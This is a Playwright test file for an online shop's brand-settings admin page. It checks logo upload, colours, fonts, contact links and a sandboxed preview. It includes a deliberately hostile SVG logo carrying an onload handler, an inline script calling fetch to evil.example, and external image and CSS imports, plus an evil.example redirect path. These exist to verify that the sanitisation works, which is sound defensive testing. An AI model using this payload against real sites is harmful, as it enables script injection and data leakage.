import type { Page } from "@playwright/test";
import { sql } from "kysely";
import { expectHarmless, SIZES, recordViolations } from "../../support/expect-harmless.ts";
import { expect } from "../../support/merchant.ts";
import { confirmIdentity } from "../../support/people.ts";
import { test as base } from "../../support/settings-test.ts";
import { COFFEE } from "../../support/shopping.ts";
import { expectAccessible, expectNotice } from "../../support/shop.ts";

const test = base.extend<{ opened: Page }>({
  opened: async ({ adminPage: page }, use) => {
    await page.goto("/admin/settings/brand");
    await expect(page.getByRole("heading", { level: 1, name: "Brand" })).toBeVisible();
    await use(page);
  },
});
test.describe.configure({ mode: "serial" });
// Previews block all scripts, including Playwright's.
test.use({ expectedNoise: /status of (400|403|404)|Blocked script execution in '[^']*\/shop-preview/ });

const LONG_NAME = "Sapatero ng Marikina at mga Anak, Gawang Kamay Mula 1956 (x)";
const HOSTILE_LOGO = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="160" onload="window.__pwned=1">
<script>window.__pwned=1; parent.__pwned=1; fetch("//evil.example/x")</script>
<image href="https://evil.example/x.png" width="9" height="9"/><use xlink:href="https://evil.example/x.svg#a"/>
<style>@import "https://evil.example/x.css";</style>
<rect width="600" height="160" rx="30" fill="#7a3b12"/><circle cx="80" cy="80" r="50" fill="#fff"/></svg>`;

async function upload(page: Page, button: string, svg: string): Promise<void> {
  const chooser = page.waitForEvent("filechooser");
  await page.getByRole("button", { name: button, exact: true }).click();
  await (await chooser).setFiles({ name: "logo.svg", mimeType: "image/svg+xml", buffer: Buffer.from(svg) });
}

const field = (page: Page, name: string | RegExp) => page.getByRole("textbox", { name });

test("previews changed logo, colors and texts before saving, and shows them in the shop afterwards", async ({
  opened: page,
  admin,
  context,
  db,
}) => {
  const violations = await recordViolations(page);
  await field(page, "Shop name").fill(LONG_NAME);
  await field(page, "Accent color").fill("#ffd400");
  await expect(page.getByText(/Light pages\. Buttons use your color.*Links use #806900/)).toBeVisible();
  await expect(page.getByText("Dark pages. Your color is used as is")).toBeVisible();
  await field(page, /^Description/).fill("Leather shoes, made by hand in Marikina.");
  await field(page, /^Messenger/).fill("sapatero.marikina");
  await field(page, /^Viber/).fill("0917 123 4567");
  await page.getByRole("button", { name: "Add link" }).click();
  await field(page, "Link 1").fill("https://www.instagram.com/sapatero");

  const framed = (name: string) => page.frameLocator(`iframe[title="${name}"]`);
  const phone = framed("Front page, Phone, Light");
  await expect(phone.getByRole("link", { name: `${LONG_NAME}, home` })).toBeVisible();
  await expect(phone.getByText("Leather shoes, made by hand in Marikina.")).toBeAttached();
  const add = phone.getByRole("button", { name: /^Add/ }).first();
  await expect(add).toHaveCSS("background-color", "rgb(255, 212, 0)");
  await expectAccessible(page);

  await upload(page, "Upload logo", HOSTILE_LOGO);
  await expect(page.getByRole("img", { name: "The logo" })).toBeVisible();
  await page.getByText("Computer", { exact: true }).click();
  await page.getByText("Dark", { exact: true }).click();
  await page.getByText("Product page", { exact: true }).click();
  const desktop = framed("Product page, Computer, Dark");
  const logo = desktop.getByRole("banner").getByRole("img", { name: LONG_NAME });
  await expect(logo).toBeVisible();
  await expect(desktop.locator("html")).toHaveAttribute("data-theme", "dark");
  const { width, height } = (await logo.boundingBox())!;
  expect(width / height).toBeCloseTo(600 / 160, 0);
  expect(await (await context.request.get("/")).text()).not.toContain("Sapatero");

  await page.getByRole("button", { name: "Save settings" }).click();
  await confirmIdentity(page, admin.password);
  await expectNotice(page, "Settings saved");
  const shop = await context.newPage();
  const shopViolations = await recordViolations(shop);
  for (const size of SIZES)
    for (const path of ["/", `/products/${COFFEE}`]) {
      await shop.setViewportSize(size);
      await shop.goto(path);
      const shopLogo = shop.getByRole("banner").getByRole("img", { name: LONG_NAME });
      await expect(shopLogo).toBeVisible();
      const box = (await shopLogo.boundingBox())!;
      expect(box.width / box.height, `${path} at ${size.width}`).toBeCloseTo(600 / 160, 1);
      expect(box.height).toBeGreaterThanOrEqual(28);
      await expectHarmless(shop, `${path} at ${size.width}`);
    }
  await expectAccessible(shop);
  const footer = shop.getByRole("contentinfo");
  await expect(footer.getByRole("link", { name: "Messenger" })).toHaveAttribute(
    "href",
    "https://m.me/sapatero.marikina",
  );
  await expect(footer.getByRole("link", { name: "Instagram" })).toBeVisible();
  await shop.goto(`/products/${COFFEE}`);
  const facts = shop.getByRole("region", { name: "Delivery and payment" });
  await expect(facts.getByRole("link", { name: "Ask on Messenger" })).toHaveAttribute(
    "href",
    /^https:\/\/m\.me\//,
  );
  await expect(facts.getByRole("link", { name: "Ask on Viber" })).toHaveAttribute(
    "href",
    "viber://chat?number=%2B639171234567",
  );
  await shop.goto("/");
  await expect(shop.locator('meta[name="description"]')).toHaveAttribute(
    "content",
    "Leather shoes, made by hand in Marikina.",
  );
  const icon = await shop.locator('link[rel="icon"]').getAttribute("href");
  const share = await shop.locator('meta[property="og:image"]').getAttribute("content");
  const manifest = (await (await shop.request.get("/manifest.webmanifest")).json()) as {
    icons: { src: string }[];
  };
  for (const path of [icon!, share!, ...manifest.icons.map(({ src }) => src)])
    expect([path, (await shop.request.get(path)).status()]).toEqual([path, 200]);
  expect(manifest.icons.every(({ src }) => src.startsWith("/brand/"))).toBe(true);
  await shop.close();
  expect([...violations, ...shopViolations]).toEqual([]);
  expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
  const { rows } = await sql<{
    logo: string;
  }>`select settings -> 'shop' ->> 'logo' as logo from settings_versions order by version desc limit 1`.execute(
    db,
  );
  expect(rows[0]!.logo).toMatch(/^\/uploads\/[0-9a-f]{32}-640\.webp$/);
});

test("headings get the chosen typeface, and the shop loads its file only then", async ({
  opened: page,
  context,
}) => {
  const shop = await context.newPage();
  const files: string[] = [];
  shop.on("request", (request) => files.push(new URL(request.url()).pathname));
  const heading = shop.getByRole("heading", { level: 1 });
  const fontOf = (name: string) => expect(heading).toHaveCSS("font-family", new RegExp(`^"?${name}`));
  await shop.goto("/");
  await fontOf("Geist");
  expect(files.filter((path) => path.startsWith("/fonts/"))).toEqual([]);

  await page.getByLabel("Typeface of headings").selectOption("Gloock: elegant, with serifs");
  const preview = page.frameLocator("iframe").getByRole("heading", { level: 1 });
  await expect(preview).toHaveCSS("font-family", /^Gloock/);
  await page.getByRole("button", { name: "Save settings" }).click();
  await expectNotice(page, "Settings saved");
  await shop.goto("/");
  await fontOf("Gloock");
  expect(await shop.evaluate(async () => (await document.fonts.load("600 30px Gloock", "₱ñ")).length)).toBe(
    1,
  );
  expect(new Set(files.filter((path) => path.startsWith("/fonts/")))).toEqual(
    new Set(["/fonts/gloock-1.woff2"]),
  );
  await expectAccessible(shop);
  await shop.close();
});

test("the preview of brand changes runs no scripts and cannot be framed by other sites", async ({
  opened: page,
}) => {
  const frame = page.locator("iframe");
  await expect(frame).toHaveAttribute("src", /^\/shop-preview\?draft=/);
  await expect(frame).toHaveAttribute("sandbox", "allow-same-origin");
  const path = (await frame.getAttribute("src"))!;
  const response = await page.request.get(path);
  expect(response.headers()).toMatchObject({
    "cache-control": "no-store",
    "x-frame-options": "SAMEORIGIN",
    "content-security-policy": expect.stringMatching(/script-src 'none'.*frame-ancestors 'self'/),
  });
  expect(await response.text()).not.toMatch(/<script/i);
  expect((await page.request.get("/")).headers()).toMatchObject({
    "x-frame-options": "DENY",
    "content-security-policy": expect.stringContaining("frame-ancestors 'none'"),
  });
  for (const invalidPath of [
    "/shop-preview",
    "/shop-preview?draft=x",
    path.replace("page=%2F", "page=//evil.example"),
    path.replace("page=%2F", "page=/admin/login/x"),
  ])
    expect([invalidPath, (await page.request.get(invalidPath)).status()]).toEqual([invalidPath, 404]);
});

test("shows a square logo next to the shop's name, and keeps text typed during the upload of the logo", async ({
  opened: page,
}) => {
  await upload(page, "Upload logo", "<svg");
  await expect(page.getByText("Please save the picture as PNG")).toBeVisible();
  const uploadReleased = Promise.withResolvers<void>();
  await page.route("**/api/pictures", async (route) => {
    await uploadReleased.promise;
    await route.fallback();
  });
  const square = HOSTILE_LOGO.replace('width="600" height="160"', 'width="160" height="160"');
  await upload(page, "Upload logo", square);
  await field(page, /^Description/).fill("Typed meanwhile");
  uploadReleased.resolve();
  await expect(page.getByRole("img", { name: "The logo" })).toBeVisible();
  await expect(field(page, /^Description/)).toHaveValue("Typed meanwhile");
  const banner = page.frameLocator('iframe[title="Front page, Phone, Light"]').getByRole("banner");
  await expect(banner.getByRole("link", { name: /, home$/ })).toContainText("Tindahan");
  const { width, height } = (await banner.locator("img").first().boundingBox())!;
  expect(width).toBeCloseTo(height, 0);
  await field(page, "Accent color").fill("red");
  await expect(page.getByText("Not shown yet")).toBeVisible();
  await page.getByRole("button", { name: "Discard" }).click();
});
